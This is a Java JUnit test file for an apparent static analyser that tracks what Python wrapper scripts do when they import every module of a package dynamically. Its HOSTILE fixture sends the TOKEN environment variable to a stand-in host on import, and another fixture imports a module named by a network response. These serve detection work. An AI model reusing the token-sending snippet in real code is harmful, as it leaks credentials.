package dev.auditpath.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import dev.auditpath.model.Behaviour;
import dev.auditpath.model.Evidence;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Modules that are imported because they lie in a package, by names that stand nowhere. */
class FoundModulesTest {
  private static final String HAND_OVER =
      """
      import os, sys
      from . import steps_package
      def main():
          os.execv("/usr/bin/kubectl", sys.argv)
      """;
  private static final String HOSTILE =
      """
      import os, urllib.request
      def run(words):
          urllib.request.urlopen("https://a.invalid/", os.environ["TOKEN"].encode())
      run([])
      """;

  @ParameterizedTest
  @ValueSource(
      strings = {
        """
        import importlib, pkgutil
        for found in pkgutil.iter_modules(__path__):
            importlib.import_module(f"{__name__}.{found.name}")
        """,
        """
        import importlib, pkgutil
        for _, name, _ in pkgutil.walk_packages(__path__, __name__ + "."):
            importlib.import_module(name)
        """,
        """
        import pkgutil
        for finder, name, _ in pkgutil.iter_modules(__path__):
            finder.find_spec(name).loader.load_module(name)
        """,
        """
        import os
        for file in os.listdir(os.path.dirname(__file__)):
            if file.endswith(".py"):
                __import__(file[:-3], globals(), locals(), [], 1)
        """,
        """
        import importlib
        from pathlib import Path
        for file in Path(__file__).parent.glob("*.py"):
            importlib.import_module("." + file.stem, __package__)
        """,
        """
        from importlib import import_module, resources
        for file in resources.files(__package__).iterdir():
            import_module(__package__ + "." + file.name.removesuffix(".py"))
        """,
        """
        import glob, os
        for file in glob.glob(os.path.join(os.path.dirname(__file__), "*.py")):
            exec("import %s.%s" % (__name__, os.path.basename(file)[:-3]))
        """,
        """
        import importlib, os
        importlib.import_module("pkg.steps_package.t" + os.environ["STEP"])
        """
      })
  void everyModuleOfThePackageIsImported(String finding) {
    Behaviour behaviour =
        Sources.of(HAND_OVER)
            .with("pkg.steps_package", finding)
            .with("pkg.steps_package.short", "SHORT = {}")
            .with("pkg.steps_package.tray", HOSTILE)
            .as("kubectl")
            .analyse();
    assertThat(Sources.summary(behaviour))
        .as(String.join("\n", Sources.lines(behaviour)))
        .contains("hands-over:kubectl")
        .contains("network")
        .doesNotContain("unread");
  }

  @Test
  void whatIsCalledOfTheModuleIsFollowedInEachOfThem() {
    Sources sources =
        Sources.of(
            """
            import importlib, os, sys
            def main():
                step = importlib.import_module("pkg.steps_package." + sys.argv[1])
                step.run()
                os.execv("/usr/bin/kubectl", sys.argv)
            """);
    sources.with("pkg.steps_package", "");
    for (int i = 0; i < 40; i++) {
      sources.with("pkg.steps_package.s%02d".formatted(i), "def run(): pass");
    }
    sources.with("pkg.steps_package.z", HOSTILE.replace("run([])", ""));
    assertThat(Sources.summary(sources.as("kubectl").analyse())).contains("network");
  }

  @Test
  void aPackageOfMoreModulesThanAreImportedIsNotRead() {
    Sources sources = Sources.of(HAND_OVER);
    sources.with(
        "pkg.steps_package",
        "import importlib, os\n"
            + "for f in os.listdir('.'): importlib.import_module(f'{__name__}.{f}')");
    for (int i = 0; i <= Modules.MOST_NAMES; i++) {
      sources.with("pkg.steps_package.s" + i, "");
    }
    assertThat(sources.as("kubectl").analyse().unread())
        .extracting(Evidence::detail)
        .containsExactly("it imports modules of pkg.steps_package, which has too many");
  }

  @Test
  void modulesThatAreInnocentAreNoFinding() {
    Behaviour behaviour =
        Sources.of(HAND_OVER)
            .with(
                "pkg.steps_package",
                """
                import importlib, pkgutil
                ALL = [importlib.import_module(f"{__name__}.{m.name}")
                       for m in pkgutil.iter_modules(__path__)]
                """)
            .with("pkg.steps_package.short", "SHORT = {'g': 'get'}")
            .with("pkg.steps_package.space", "import os\nSPACE = os.environ.get('KUBE_NS')")
            .as("kubectl")
            .analyse();
    assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:kubectl");
  }

  @Test
  void aNameThatComesOverTheNetworkIsNotRead() {
    Behaviour behaviour =
        Sources.of(
                """
                import importlib, urllib.request
                def main():
                    name = urllib.request.urlopen("https://a.invalid/").read().decode()
                    importlib.import_module("pkg.steps_package." + name)
                """)
            .with("pkg.steps_package", "")
            .with("pkg.steps_package.one", "")
            .analyse();
    assertThat(Sources.summary(behaviour)).contains("unread");
  }

  @Test
  void aPlugInThatTheUserNamesIsNoFinding() {
    Behaviour behaviour =
        Sources.of(
                """
                import importlib, sys
                def main():
                    importlib.import_module(sys.argv[1]).run()
                    importlib.import_module("json." + sys.argv[2])
                """)
            .with("pkg.tray", HOSTILE)
            .analyse();
    assertThat(Sources.summary(behaviour)).isEmpty();
  }
}
